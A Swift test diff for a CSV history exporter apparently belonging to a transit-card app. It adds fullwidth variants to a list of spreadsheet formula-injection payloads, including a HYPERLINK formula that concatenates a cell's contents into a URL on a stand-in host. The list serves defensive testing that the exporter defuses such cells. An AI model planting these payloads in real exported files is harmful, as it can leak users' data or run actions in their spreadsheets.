@@ -35,7 +35,9 @@ final class HistoryCSVTests: XCTestCase {
     func testFormulaLikeTextCellsAreDefusedAndNumbersStayNumbers() throws {
         let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
                                 lastRead: nil, records: 1, reads: 1, readsApart: 0)
-        let payloads = ["=HYPERLINK(\"http://x\"&B2,\"Shinjuku\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "Plain"]
+        // And their fullwidth forms (＝ U+FF1D, ＋, －, ＠), which Japanese Excel takes as the ASCII ones.
+        let payloads = ["=HYPERLINK(\"http://x\"&B2,\"Shinjuku\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR",
+                        "\u{FF1D}HYPERLINK(\"http://x\")", "\u{FF0B}1", "\u{FF0D}2", "\u{FF20}SUM(A1)", "Plain"]
         let records = payloads.map { name in
             Archive.TimelineRecord(transaction: .init(type: .trip, amount: 160, date: date("2026-11-04"), entryStation: "E33B",
                                                       exitStation: "E621", balance: -20), json: "{}")
